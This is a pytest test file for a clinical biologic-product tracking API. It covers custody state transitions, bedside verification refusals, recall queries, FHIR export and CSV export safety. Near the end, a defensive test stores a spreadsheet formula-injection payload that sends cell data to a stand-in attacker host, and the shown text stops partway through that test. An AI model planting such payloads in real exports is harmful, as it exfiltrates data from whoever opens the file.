"""Products through the API: registration with a preparation record, custody state machine, labels,
bedside verification (every refusal recorded) and recall."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import func, select

from regenguide.store import models as m
from regenguide.store.db import transaction

NOW = datetime.now(UTC).replace(microsecond=0)


def prp(**over: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "product_type": "prp", "prepared_at": NOW.isoformat(), "operator": "lab.a", "blood_volume_ml": 30,
        "anticoagulant": "acd_a", "anticoagulant_volume_ml": 3,
        "anticoagulant_lot": {"kind": "anticoagulant", "name": "ACD-A", "lot": "AC-77"},
        "kit": {"kind": "kit", "name": "DemoKit PRP", "lot": "KIT-2026-01"},
        "spins": [{"g_force": 100, "minutes": 15}, {"g_force": 1600, "minutes": 20}],
        "baseline": {"platelets_per_uL": 200_000, "leukocytes_per_uL": 6_000, "neutrophils_per_uL": 3_600,
                     "rbc_per_uL": 4_800_000},
        "product": {"platelets_per_uL": 1_000_000, "leukocytes_per_uL": 4_000, "neutrophils_per_uL": 1_000,
                    "rbc_per_uL": 50_000},
        "product_volume_ml": 5, "activation": "none",
    }
    data.update(over)
    return data


def _patient(client: Any, auth: Any, mrn: str) -> int:
    r = client.post("/api/v1/patients", json={"site_id": 1, "mrn": mrn, "given_name": "Lea", "family_name": "Moreau",
                                               "birth_date": "1975-06-01", "sex": "female"}, headers=auth["clinician"])
    assert r.status_code == 201
    return int(r.json()["id"])


def _signed_plan(engine: Any, patient_id: int, signed: bool = True) -> int:
    with transaction(engine) as db:
        plan = m.TreatmentPlan(patient_id=patient_id, modality="prp", indication="androgenetic_alopecia",
                               jurisdiction="US", status="signed" if signed else "draft",
                               signed_by=2 if signed else None, signed_at=NOW if signed else None)
        db.add(plan)
        db.flush()
        return plan.id


def _consent(client: Any, auth: Any, patient_id: int, plan_id: int, decision: str = "accepted",
             expires: str | None = None) -> None:
    body = {"patient_id": patient_id, "plan_id": plan_id, "version": "prp-1", "decision": decision,
            "text": "I consent to PRP injections to the scalp as explained.", "signer_name": "Lea Moreau",
            "signed_at": (NOW - timedelta(days=1)).isoformat()}
    if expires:
        body["expires_on"] = expires
    assert client.post("/api/v1/consents", json=body, headers=auth["clinician"]).status_code == 201


def _product(client: Any, auth: Any, patient_id: int, plan_id: int | None, **over: Any) -> dict[str, Any]:
    body = {"patient_id": patient_id, "plan_id": plan_id, "product_type": "prp", "collected_at": NOW.isoformat(),
            "location": "lab 1", "volume_ml": 5, "preparation": prp(), **over}
    r = client.post("/api/v1/products", json=body, headers=auth["lab"])
    assert r.status_code == 201, r.text
    return r.json()


def _release(client: Any, auth: Any, product_id: int) -> None:
    for event in ("processed", "qc_passed", "released"):
        r = client.post(f"/api/v1/products/{product_id}/events", json={"type": event, "location": "lab 1"},
                        headers=auth["lab"])
        assert r.status_code == 201, r.text


def test_registration_computes_metrics_lots_and_identifier(client: Any, auth: Any) -> None:
    pid = _patient(client, auth, "P1")
    product = _product(client, auth, pid, None)
    assert product["status"] == "collected"
    assert product["identifier"] == f"RG1-{NOW.year % 100:02d}-000001"
    assert product["metrics"]["concentration_factor"] == pytest.approx(5.0)
    assert product["kit_lot"] == "KIT-2026-01"
    second = _product(client, auth, pid, None)
    assert second["identifier"].endswith("000002")


def test_bad_preparation_names_the_field_and_stores_nothing(client: Any, auth: Any, engine: Any) -> None:
    pid = _patient(client, auth, "P1")
    bad = prp(spins=[{"g_force": -5, "minutes": 10}])
    r = client.post("/api/v1/products", json={"patient_id": pid, "product_type": "prp", "collected_at": NOW.isoformat(),
                                              "location": "lab", "preparation": bad}, headers=auth["lab"])
    assert r.status_code == 422
    assert "preparation.spins.0.g_force" in r.json()["detail"]
    with transaction(engine) as db:
        assert db.execute(select(func.count()).select_from(m.BiologicProduct)).scalar_one() == 0
        assert db.execute(select(func.count()).select_from(m.CustodyEvent)).scalar_one() == 0


def test_illegal_custody_transitions_are_refused(client: Any, auth: Any) -> None:
    pid = _patient(client, auth, "P1")
    product = _product(client, auth, pid, None)
    url = f"/api/v1/products/{product['id']}/events"
    r = client.post(url, json={"type": "released", "location": "lab"}, headers=auth["lab"])
    assert r.status_code == 409 and "cannot record 'released'" in r.json()["detail"]
    r = client.post(url, json={"type": "administered", "location": "ward"}, headers=auth["lab"])
    assert r.status_code == 409 and r.json()["type"].endswith("bedside-required")
    assert client.get(f"/api/v1/products/{product['id']}", headers=auth["lab"]).json()["status"] == "collected"
    assert client.post(url, json={"type": "processed", "location": "lab"}, headers=auth["nurse"]).status_code == 403


def test_label_png_decodes_to_the_identifier(client: Any, auth: Any) -> None:
    import io

    import zxingcpp
    from PIL import Image

    pid = _patient(client, auth, "P1")
    product = _product(client, auth, pid, None)
    r = client.get(f"/api/v1/products/{product['id']}/label?format=png", headers=auth["lab"])
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"
    found = zxingcpp.read_barcodes(Image.open(io.BytesIO(r.content)))
    assert [b.text for b in found] == [product["identifier"]]
    pdf = client.get(f"/api/v1/products/{product['id']}/label", headers=auth["lab"])
    assert pdf.content.startswith(b"%PDF")


def test_bedside_accepts_and_administers(client: Any, auth: Any, engine: Any) -> None:
    pid = _patient(client, auth, "P1")
    plan = _signed_plan(engine, pid)
    _consent(client, auth, pid, plan)
    product = _product(client, auth, pid, plan)
    _release(client, auth, product["id"])
    r = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                    "scanned_product": product["identifier"], "product_id": product["id"], "administer": True},
                    headers=auth["nurse"])
    assert r.status_code == 200, r.text
    assert r.json()["ok"] is True and r.json()["administered"] is True
    assert client.get(f"/api/v1/products/{product['id']}", headers=auth["nurse"]).json()["status"] == "administered"
    again = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                        "scanned_product": product["identifier"], "administer": True}, headers=auth["nurse"])
    assert again.status_code == 409
    assert "already_administered" in [x["code"] for x in again.json()["refusals"]]


def _refusal_codes(client: Any, auth: Any, body: dict[str, Any]) -> list[str]:
    r = client.post("/api/v1/bedside/verify", json=body, headers=auth["nurse"])
    assert r.status_code == 409, r.text
    return [x["code"] for x in r.json()["refusals"]]


def test_bedside_refusals_are_exact_and_recorded(client: Any, auth: Any, engine: Any) -> None:
    a = _patient(client, auth, "PA")
    b = _patient(client, auth, "PB")
    plan_a = _signed_plan(engine, a)
    _consent(client, auth, a, plan_a)
    prod_a = _product(client, auth, a, plan_a)
    # not released yet
    assert "not_released" in _refusal_codes(client, auth, {"patient_id": a, "scanned_patient": "PA",
                                                            "scanned_product": prod_a["identifier"]})
    _release(client, auth, prod_a["id"])
    # another patient's product: the product belongs to A, patient B is being treated
    codes = _refusal_codes(client, auth, {"patient_id": b, "scanned_patient": "PB",
                                          "scanned_product": prod_a["identifier"]})
    assert "wrong_patient" in codes
    # wristband of another patient scanned
    assert "patient_mismatch" in _refusal_codes(client, auth, {"patient_id": a, "scanned_patient": "PB",
                                                                "scanned_product": prod_a["identifier"]})
    # keyed with a wrong check character
    assert "identifier_check_char_wrong" in _refusal_codes(
        client, auth, {"patient_id": a, "scanned_patient": "PA", "product_id": prod_a["id"],
                       "scanned_product": prod_a["identifier"] + " Z"})
    # unsigned plan and missing consent
    plan_c = _signed_plan(engine, b, signed=False)
    prod_b = _product(client, auth, b, plan_c)
    _release(client, auth, prod_b["id"])
    codes = _refusal_codes(client, auth, {"patient_id": b, "scanned_patient": "PB",
                                          "scanned_product": prod_b["identifier"]})
    assert {"plan_not_signed", "consent_missing"} <= set(codes)
    with transaction(engine) as db:
        checks = db.execute(select(m.BedsideCheck).order_by(m.BedsideCheck.id)).scalars().all()
        assert len(checks) == 5 and not any(c.accepted for c in checks)
        assert db.get(m.BiologicProduct, prod_a["id"]).status == "released"


def test_recall_by_product_and_kit_lot(client: Any, auth: Any, engine: Any) -> None:
    pid = _patient(client, auth, "P1")
    plan = _signed_plan(engine, pid)
    _consent(client, auth, pid, plan)
    product = _product(client, auth, pid, plan)
    other = _product(client, auth, pid, plan, preparation=prp(kit={"kind": "kit", "name": "Other", "lot": "K-9"}))
    for p in (product, other):
        _release(client, auth, p["id"])
        r = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                        "scanned_product": p["identifier"], "administer": True}, headers=auth["nurse"])
        assert r.status_code == 200, r.text
    by_kit = client.get("/api/v1/recall?kit_lot=KIT-2026-01", headers=auth["lab"]).json()
    assert [x["product_key"] for x in by_kit["items"]] == [product["identifier"]]
    by_reagent = client.get("/api/v1/recall?reagent_lot=AC-77", headers=auth["lab"]).json()
    assert by_reagent["total"] == 2
    csv_text = client.get(f"/api/v1/recall?product={other['identifier']}&format=csv", headers=auth["lab"]).text
    lines = csv_text.strip().splitlines()
    assert len(lines) == 2 and "K-9" in lines[1] and lines[0].startswith("administration_id")
    assert client.get("/api/v1/recall", headers=auth["lab"]).status_code == 422


def test_divide_into_aliquots(client: Any, auth: Any) -> None:
    pid = _patient(client, auth, "P1")
    product = _product(client, auth, pid, None)
    _release(client, auth, product["id"])
    r = client.post(f"/api/v1/products/{product['id']}/divide", json={"count": 2, "location": "lab",
                    "volumes_ml": [2.5, 2.5]}, headers=auth["lab"])
    assert r.status_code == 201, r.text
    keys = [c["identifier"] for c in r.json()]
    assert keys == [product["identifier"] + "/A0", product["identifier"] + "/B0"]
    assert all(c["parent_id"] == product["id"] and c["status"] == "released" for c in r.json())
    too_much = client.post(f"/api/v1/products/{r.json()[0]['id']}/divide", json={"count": 2, "location": "lab",
                           "volumes_ml": [2, 2]}, headers=auth["lab"])
    assert too_much.status_code == 422


# --- audit additions: every refusal reason recorded, release blockers, recall forms, FHIR ---------------------------
def _event(client: Any, auth: Any, product_id: int, event: str, at: datetime | None = None) -> Any:
    body: dict[str, Any] = {"type": event, "location": "lab 1"}
    if at is not None:
        body["at"] = at.isoformat()
    return client.post(f"/api/v1/products/{product_id}/events", json=body, headers=auth["lab"])


def _consent_row(engine: Any, patient_id: int, plan_id: int | None, decision: str, expires_on: Any = None) -> None:
    with transaction(engine) as db:
        db.add(m.Consent(patient_id=patient_id, plan_id=plan_id, version="1", text="consent text for PRP",
                         text_digest="0" * 64, decision=decision, signer_name="Lea Moreau",
                         signed_at=NOW - timedelta(days=2), expires_on=expires_on))


def _ready(client: Any, auth: Any, engine: Any, mrn: str = "PA", **product: Any) -> tuple[int, int, dict[str, Any]]:
    """A patient with a signed plan, valid consent and a released PRP product."""
    pid = _patient(client, auth, mrn)
    plan = _signed_plan(engine, pid)
    _consent(client, auth, pid, plan)
    prod = _product(client, auth, pid, plan, **product)
    _release(client, auth, prod["id"])
    return pid, plan, prod


def _scenario(client: Any, auth: Any, engine: Any, code: str) -> dict[str, Any]:
    """Request body of a bedside check that must be refused for exactly `code` (and nothing else)."""
    if code == "not_released":
        pid = _patient(client, auth, "PA")
        plan = _signed_plan(engine, pid)
        _consent(client, auth, pid, plan)
        prod = _product(client, auth, pid, plan)
        return {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    if code in ("quarantined", "discarded"):
        pid = _patient(client, auth, "PA")
        plan = _signed_plan(engine, pid)
        _consent(client, auth, pid, plan)
        prod = _product(client, auth, pid, plan)
        assert _event(client, auth, prod["id"], "processed").status_code == 201
        last = "qc_failed" if code == "quarantined" else "discarded"
        assert _event(client, auth, prod["id"], last).status_code == 201
        return {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    if code == "expired":
        pid = _patient(client, auth, "PA")
        plan = _signed_plan(engine, pid)
        _consent(client, auth, pid, plan)
        past = NOW - timedelta(hours=6)
        prod = _product(client, auth, pid, plan, collected_at=past.isoformat())
        for i, event in enumerate(("processed", "qc_passed", "released")):
            assert _event(client, auth, prod["id"], event, past + timedelta(minutes=10 * (i + 1))).status_code == 201
        # PRP: 4 h after processing (wilson-2018-prp-storage) -> expired 1 h 50 min ago
        return {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    if code == "expiry_unknown":
        pid = _patient(client, auth, "PA")
        plan = _signed_plan(engine, pid)
        _consent(client, auth, pid, plan)
        prod = _product(client, auth, pid, plan, product_type="microfat", preparation=None)
        _release(client, auth, prod["id"])  # microfat: no sourced hold time -> no expiry
        return {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    if code in ("plan_not_signed", "consent_missing", "consent_declined", "consent_withdrawn", "consent_expired"):
        pid = _patient(client, auth, "PA")
        plan = _signed_plan(engine, pid, signed=code != "plan_not_signed")
        if code == "plan_not_signed":
            _consent(client, auth, pid, plan)
        elif code != "consent_missing":
            decision = {"consent_declined": "declined", "consent_withdrawn": "withdrawn"}.get(code, "accepted")
            expires = (NOW - timedelta(days=1)).date() if code == "consent_expired" else None
            _consent_row(engine, pid, plan, decision, expires)
        prod = _product(client, auth, pid, plan)
        _release(client, auth, prod["id"])
        return {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    pid, _, prod = _ready(client, auth, engine)
    base = {"patient_id": pid, "scanned_patient": "PA", "scanned_product": prod["identifier"]}
    if code == "patient_mismatch":
        return {**base, "scanned_patient": "PB"}
    if code == "wrong_patient":
        other = _patient(client, auth, "PB")  # patient B, with a valid consent of its own, is being treated
        _consent_row(engine, other, None, "accepted")
        return {**base, "patient_id": other, "scanned_patient": "PB"}
    if code == "identifier_malformed":
        return {**base, "product_id": prod["id"], "scanned_product": "RG1-26-12"}
    if code == "identifier_check_char_wrong":
        return {**base, "product_id": prod["id"], "scanned_product": prod["identifier"] + " Z"}
    if code == "wrong_product":
        other = _product(client, auth, pid, None)
        return {**base, "product_id": prod["id"], "scanned_product": other["identifier"]}
    if code == "unknown_product":
        return {**base, "scanned_product": "RG1-26-999999"}
    if code == "division_unconfirmed":
        r = client.post(f"/api/v1/products/{prod['id']}/divide", json={"count": 2, "location": "lab"},
                        headers=auth["lab"])
        assert r.status_code == 201, r.text
        return {**base, "product_id": r.json()[1]["id"], "scanned_product": prod["identifier"]}
    if code == "already_administered":
        ok = client.post("/api/v1/bedside/verify", json={**base, "administer": True}, headers=auth["nurse"])
        assert ok.status_code == 200, ok.text
        return base
    raise AssertionError(code)


def test_every_refusal_code_has_an_api_scenario() -> None:
    from regenguide.products.bedside import RefusalCode

    assert {c.value for c in RefusalCode} == set(ALL_CODES)


ALL_CODES = [
    "identifier_malformed", "identifier_check_char_wrong", "unknown_product", "wrong_product", "division_unconfirmed",
    "patient_mismatch", "wrong_patient", "not_released", "quarantined", "discarded", "already_administered",
    "expired", "expiry_unknown", "plan_not_signed", "consent_missing", "consent_expired", "consent_declined",
    "consent_withdrawn",
]


@pytest.mark.parametrize("code", ALL_CODES)
def test_each_refusal_reason_is_refused_and_recorded(client: Any, auth: Any, engine: Any, code: str) -> None:
    body = _scenario(client, auth, engine, code)
    with transaction(engine) as db:
        before = db.execute(select(func.count()).select_from(m.BedsideCheck)).scalar_one()
        statuses = {p.id: p.status for p in db.execute(select(m.BiologicProduct)).scalars()}
    r = client.post("/api/v1/bedside/verify", json={**body, "administer": True}, headers=auth["nurse"])
    assert r.status_code == 409, r.text
    problem = r.json()
    # a product never processed has no hold-time clock yet, so its expiry is unknown too
    expected = [code, "expiry_unknown"] if code == "not_released" else [code]
    assert [x["code"] for x in problem["refusals"]] == expected, problem
    assert r.headers["content-type"].startswith("application/problem+json")
    with transaction(engine) as db:
        checks = db.execute(select(m.BedsideCheck).order_by(m.BedsideCheck.id)).scalars().all()
        assert len(checks) == before + 1
        last = checks[-1]
        assert last.id == problem["check_id"] and last.accepted is False
        assert [x["code"] for x in last.reasons] == expected and all(x["message"] for x in last.reasons)
        assert last.patient_id == body["patient_id"]
        # nothing was administered
        assert {p.id: p.status for p in db.execute(select(m.BiologicProduct)).scalars()} == statuses


def test_same_record_number_at_another_site_is_another_patient(client: Any, auth: Any, engine: Any) -> None:
    # Record numbers are unique per site only: patient "PA" of site 2 must not receive site 1's "PA" product.
    from regenguide.services import products as svc

    _, _, prod = _ready(client, auth, engine, mrn="PA")
    with transaction(engine) as db:
        site = m.Site(name="Other Clinic", jurisdiction="US")
        db.add(site)
        db.flush()
        twin = m.Patient(site_id=site.id, mrn="PA", given_name="Other", family_name="Person",
                         birth_date=datetime(1980, 1, 1).date(), sex="male")
        db.add(twin)
        db.flush()
        db.add(m.Consent(patient_id=twin.id, plan_id=None, version="1", text="consent text for PRP",
                         text_digest="0" * 64, decision="accepted", signer_name="Other Person",
                         signed_at=NOW - timedelta(days=1)))
        verification, check = svc.bedside(db, patient_id=twin.id, scanned_patient="PA",
                                          scanned_product=prod["identifier"], product_id=prod["id"], user_id=None,
                                          location="ward", administer=True)
        assert verification.codes == ["wrong_patient"] and check.accepted is False
        assert db.get(m.BiologicProduct, prod["id"]).status == "released"


def test_failed_or_pending_release_test_blocks_qc_pass_and_release(client: Any, auth: Any) -> None:
    pid = _patient(client, auth, "P1")
    cart = {
        "product_type": "car_t", "prepared_at": NOW.isoformat(), "operator": "cell.lab",
        "collection": {"method": "leukapheresis", "collected_at": (NOW - timedelta(days=20)).isoformat()},
        "manufacturing_site": "Site M", "manufacturing_lot": "MFG-1", "total_cells": 1e8, "viability_percent": 90,
        "release_tests": [{"test": "sterility", "result": "fail"}, {"test": "mycoplasma", "result": "pending"},
                          {"test": "endotoxin", "result": "pass"}],
    }
    prod = _product(client, auth, pid, None, product_type="car_t", preparation=cart)
    assert _event(client, auth, prod["id"], "processed").status_code == 201
    r = _event(client, auth, prod["id"], "qc_passed")
    assert r.status_code == 409 and r.json()["type"].endswith("release-blocked")
    assert r.json()["blockers"] == ["release test sterility failed", "release test mycoplasma is pending"]
    assert client.get(f"/api/v1/products/{prod['id']}", headers=auth["lab"]).json()["status"] == "processed"
    assert _event(client, auth, prod["id"], "qc_failed").status_code == 201  # quarantine is always allowed


def test_naive_times_are_refused_naming_the_field(client: Any, auth: Any) -> None:
    pid = _patient(client, auth, "P1")
    r = client.post("/api/v1/products", json={"patient_id": pid, "product_type": "prp", "location": "lab",
                                              "collected_at": "2026-11-22T08:00:00"}, headers=auth["lab"])
    assert r.status_code == 422 and "collected_at" in r.text
    prod = _product(client, auth, pid, None)
    r = client.post(f"/api/v1/products/{prod['id']}/events",
                    json={"type": "processed", "location": "lab", "at": "2026-11-22T08:00:00"}, headers=auth["lab"])
    assert r.status_code == 422 and "at" in [e["field"].split(".")[-1] for e in r.json()["errors"]]


def _cart(**over: Any) -> dict[str, Any]:
    return {"product_type": "car_t", "prepared_at": NOW.isoformat(), "operator": "cell.lab",
            "collection": {"method": "leukapheresis", "collected_at": (NOW - timedelta(days=20)).isoformat()},
            "manufacturing_site": "Site M", "manufacturing_lot": "MFG-1", "total_cells": 1e8,
            "viability_percent": 90, **over}


def test_labelled_expiry_is_the_expiry_when_no_hold_time_gives_one_or_when_earlier(
    client: Any, auth: Any, engine: Any
) -> None:
    pid = _patient(client, auth, "P1")
    # CAR-T: no sourced hold time, so without a label there is no expiry (and the bedside refuses the product) …
    bare = _product(client, auth, pid, None, product_type="car_t", preparation=_cart())
    assert client.get(f"/api/v1/products/{bare['id']}", headers=auth["lab"]).json()["expires_at"] is None
    # … with the label's expiry, that is the expiry, and the record says where it comes from.
    label_at = NOW + timedelta(days=30)
    cart = _cart(labelled_expiry={"expires_at": label_at.isoformat(), "source": "product label"})
    labelled = _product(client, auth, pid, None, product_type="car_t", preparation=cart)
    with transaction(engine) as db:
        row = db.get(m.BiologicProduct, labelled["id"])
        assert row.expires_at.replace(tzinfo=UTC) == label_at and row.expiry_basis == "labelled expiry (product label)"
    # PRP: the 4 h hold after processing still wins over a later labelled time, an earlier one wins over it.
    for hours, wins in ((48, "hold"), (1, "label")):
        prep = prp(labelled_expiry={"expires_at": (NOW + timedelta(hours=hours)).isoformat(), "source": "SOP-12"})
        product = _product(client, auth, pid, None, preparation=prep)
        assert _event(client, auth, product["id"], "processed", at=NOW).status_code == 201
        with transaction(engine) as db:
            row = db.get(m.BiologicProduct, product["id"])
            expected = NOW + timedelta(hours=4) if wins == "hold" else NOW + timedelta(hours=1)
            assert row.expires_at.replace(tzinfo=UTC) == expected, (hours, row.expiry_basis)
            assert ("labelled expiry" in row.expiry_basis) == (wins == "label")
    # A labelled time without its UTC offset, or without a source, is refused naming the field.
    naive = _cart(labelled_expiry={"expires_at": "2027-01-01T08:00:00", "source": "product label"})
    r = client.post("/api/v1/products", json={"patient_id": pid, "product_type": "car_t", "location": "lab",
                                              "collected_at": NOW.isoformat(), "preparation": naive},
                    headers=auth["lab"])
    assert r.status_code == 422 and "preparation.labelled_expiry.expires_at" in r.text
    sourceless = _cart(labelled_expiry={"expires_at": label_at.isoformat(), "source": ""})
    r = client.post("/api/v1/products", json={"patient_id": pid, "product_type": "car_t", "location": "lab",
                                              "collected_at": NOW.isoformat(), "preparation": sourceless},
                    headers=auth["lab"])
    assert r.status_code == 422 and "preparation.labelled_expiry.source" in r.text


def test_thaw_event_keeps_the_status_happens_once_and_starts_the_post_thaw_clock(
    client: Any, auth: Any, engine: Any, tmp_path: Any, monkeypatch: Any
) -> None:
    holds = tmp_path / "holds.yaml"  # the facility's SOP (a test value, not a clinical one)
    holds.write_text("- {product_type: car_t, hours: 3, clock_starts: thawed, evidence: expert_opinion,"
                     " citations: ['facility-sop:CART-01']}\n", encoding="utf-8")
    monkeypatch.setenv("REGENGUIDE_HOLD_TIMES_FILE", str(holds))
    pid = _patient(client, auth, "P1")
    cart = _cart(release_tests=[{"test": "sterility", "result": "pass"}])
    prod = _product(client, auth, pid, None, product_type="car_t", preparation=cart)
    for event in ("processed", "qc_passed", "released"):
        assert _event(client, auth, prod["id"], event).status_code == 201
    assert client.get(f"/api/v1/products/{prod['id']}", headers=auth["lab"]).json()["expires_at"] is None
    thawed_at = (datetime.now(UTC) + timedelta(seconds=1)).replace(microsecond=0)
    r = _event(client, auth, prod["id"], "thawed", at=thawed_at)
    assert r.status_code == 201, r.text
    after = client.get(f"/api/v1/products/{prod['id']}", headers=auth["lab"]).json()
    assert after["status"] == "released"
    assert datetime.fromisoformat(after["expires_at"]).replace(tzinfo=UTC) == thawed_at + timedelta(hours=3)
    again = _event(client, auth, prod["id"], "thawed", at=thawed_at + timedelta(minutes=1))
    assert again.status_code == 409 and "already thawed" in again.json()["detail"]
    # A product whose preparation record already gives the thaw time takes no second one from the log.
    frozen = {"cryoprotectant": "DMSO", "frozen_at": (NOW - timedelta(days=10)).isoformat(),
              "storage_temperature_c": -150}
    recorded = _cart(cryopreservation=frozen, thaw={"thawed_at": (NOW - timedelta(hours=1)).isoformat()})
    other = _product(client, auth, pid, None, product_type="car_t", preparation=recorded)
    assert _event(client, auth, other["id"], "processed").status_code == 201
    refused = _event(client, auth, other["id"], "thawed")
    assert refused.status_code == 409 and "already gives its thaw time" in refused.json()["detail"]
    # A fresh product cannot be thawed before it is even received or processed.
    fresh = _product(client, auth, pid, None)
    assert _event(client, auth, fresh["id"], "thawed").status_code == 409


def test_custody_times_in_the_future_are_refused_and_store_nothing(client: Any, auth: Any, engine: Any) -> None:
    """A mistyped year or day would otherwise stand in the chain of custody and bar every later real event
    (events may not precede the last one). A few minutes' clock drift between devices is tolerated."""
    pid = _patient(client, auth, "P1")
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    r = client.post("/api/v1/products", json={"patient_id": pid, "product_type": "prp", "location": "lab",
                                              "collected_at": tomorrow}, headers=auth["lab"])
    assert r.status_code == 422 and r.headers["content-type"].startswith("application/problem+json")
    assert "collected_at" in r.json()["detail"] and "in the future" in r.json()["detail"]
    with transaction(engine) as db:
        assert db.execute(select(func.count()).select_from(m.BiologicProduct)).scalar_one() == 0
    prod = _product(client, auth, pid, None)
    r = client.post(f"/api/v1/products/{prod['id']}/events",
                    json={"type": "processed", "location": "lab", "at": tomorrow}, headers=auth["lab"])
    assert r.status_code == 422 and "in the future" in r.json()["detail"]
    with transaction(engine) as db:
        events = db.execute(select(m.CustodyEvent.event_type).where(m.CustodyEvent.product_id == prod["id"]))
        assert [e for (e,) in events] == ["collected"]
        assert db.get(m.BiologicProduct, prod["id"]).status == "collected"
    drift = (datetime.now(UTC) + timedelta(minutes=2)).isoformat()  # a device clock two minutes fast
    r = client.post(f"/api/v1/products/{prod['id']}/events", json={"type": "processed", "location": "lab",
                                                                   "at": drift}, headers=auth["lab"])
    assert r.status_code == 201, r.text


def test_recall_accepts_scanned_and_keyed_identifiers_and_reagent_lots_as_csv(
    client: Any, auth: Any, engine: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import csv
    import io

    from regenguide.products.din import mod37_2_char

    pid, plan, _ = _ready(client, auth, engine, mrn="P1")
    svf = {
        "product_type": "svf_enzymatic", "prepared_at": NOW.isoformat(), "operator": "lab.b",
        "harvest": {"donor_site": "abdomen", "cannula_diameter_mm": 2.5, "lipoaspirate_volume_ml": 120},
        "fat_processed_ml": 100, "enzyme": {"name": "collagenase type I", "lot": "COL-42"},
        "isolation": {"total_cells": 2e7, "viability_percent": 85, "suspension_volume_ml": 5},
    }
    # enzymatic SVF has no sourced hold time: the facility sets one in its own file
    holds = tmp_path / "holds.yaml"
    holds.write_text("- {product_type: svf_enzymatic, hours: 2, clock_starts: processed, evidence: expert_opinion,"
                     " citations: ['facility-sop:SVF-01']}\n", encoding="utf-8")
    monkeypatch.setenv("REGENGUIDE_HOLD_TIMES_FILE", str(holds))
    din = "A999926000123"  # an ISBT 128 licensed facility's DIN, keyed with its check character
    prod = _product(client, auth, pid, plan, product_type="svf_enzymatic", preparation=svf,
                    identifier=f"{din}{mod37_2_char(din)}")
    assert prod["identifier"] == din and prod["identifier_scheme"] == "isbt128"
    _release(client, auth, prod["id"])
    stored = client.get(f"/api/v1/products/{prod['id']}", headers=auth["lab"]).json()
    assert stored["expiry_basis"].startswith("2 h after processed")
    ok = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                     "scanned_product": f"={din}00", "administer": True}, headers=auth["nurse"])
    assert ok.status_code == 200, ok.text
    for query in (f"product={din}", f"product=A9999 26 000123 {mod37_2_char(din)}", f"product=%3D{din}00",
                  "reagent_lot=col-42"):
        items = client.get(f"/api/v1/recall?{query}", headers=auth["lab"]).json()["items"]
        assert [x["product_key"] for x in items] == [din], query
        assert items[0]["reagent_lots"] == ["COL-42"] and items[0]["patient_record_number"] == "P1"
    wrong = client.get(f"/api/v1/recall?product={din}Z", headers=auth["lab"])
    assert wrong.status_code == 422 and "check character" in wrong.json()["detail"]
    text = client.get("/api/v1/recall?reagent_lot=COL-42&format=csv", headers=auth["lab"]).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1 and rows[0]["product_key"] == din and rows[0]["reagent_lots"] == "COL-42"
    assert rows[0]["product_type"] == "svf_enzymatic" and rows[0]["performer"] == "nurse"


def test_product_fhir_bundle(client: Any, auth: Any, engine: Any) -> None:
    from fhir.resources.R4B.bundle import Bundle

    pid, _, prod = _ready(client, auth, engine, mrn="P1")
    ok = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                     "scanned_product": prod["identifier"], "administer": True}, headers=auth["nurse"])
    assert ok.status_code == 200
    r = client.get(f"/api/v1/products/{prod['id']}/fhir", headers=auth["lab"])
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/fhir+json")
    bundle = Bundle.model_validate(r.json())  # R4B models validate the whole bundle
    kinds = [e.resource.get_resource_type() for e in bundle.entry]
    assert kinds == ["BiologicallyDerivedProduct", "Procedure"]
    bdp, proc = (e.resource for e in bundle.entry)
    assert bdp.identifier[0].value == prod["identifier"]
    assert bdp.identifier[0].system == "urn:regenguide:local-product-id"
    assert bdp.collection.source.reference == f"Patient/{pid}" == proc.subject.reference
    assert [p.description for p in bdp.processing][:2] == ["spin 1: 100 x g for 15 min", "spin 2: 1600 x g for 20 min"]
    assert proc.usedReference[0].identifier.value == prod["identifier"]
    assert proc.performer[0].actor.display == "nurse"
    assert proc.bodySite is None  # the custody location (a room) is no body site


# --- recall CSV: spreadsheet formula injection (OWASP CSV Injection) ------------------------------------------------
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_spreadsheet_safe_quotes_every_formula_trigger(trigger: str) -> None:
    from regenguide.services.products import spreadsheet_safe

    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"
    # only the first character counts; ordinary values, numbers and None pass unchanged
    assert spreadsheet_safe(f"A{trigger}1") == f"A{trigger}1"
    assert spreadsheet_safe("2026-11-22T08:00:00+00:00") == "2026-11-22T08:00:00+00:00"
    assert spreadsheet_safe(12) == "12" and spreadsheet_safe(None) == ""


def test_recall_csv_neutralises_formulas_in_free_text_cells(client: Any, auth: Any, engine: Any) -> None:
    import csv
    import io

    payload = '=HYPERLINK("http://attacker.example/?d="&A2,"open")'
    kit = {"kind": "kit", "name": "DemoKit PRP", "lot": "@SUM(A1:A9)"}
    pid, _, prod = _ready(client, auth, engine, mrn="P1", preparation=prp(kit=kit))
    ok = client.post("/api/v1/bedside/verify", json={"patient_id": pid, "scanned_patient": "P1",
                     "scanned_product": prod["identifier"], "administer": True, "location": payload},
                     headers=auth["nurse"])
    assert ok.status_code == 200, ok.text
    # the JSON form keeps the data as recorded ...
    item = client.get(f"/api/v1/recall?product={prod['identifier']}", headers=auth["lab"]).json()["items"][0]
    assert item["location"] == payload and item["kit_lots"] == ["@SUM(A1:A9)"]
    # ... the CSV quotes what a spreadsheet would evaluate, and only that
    text = client.get(f"/api/v1/recall?product={prod['identifier']}&format=csv", headers=auth["lab"]).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
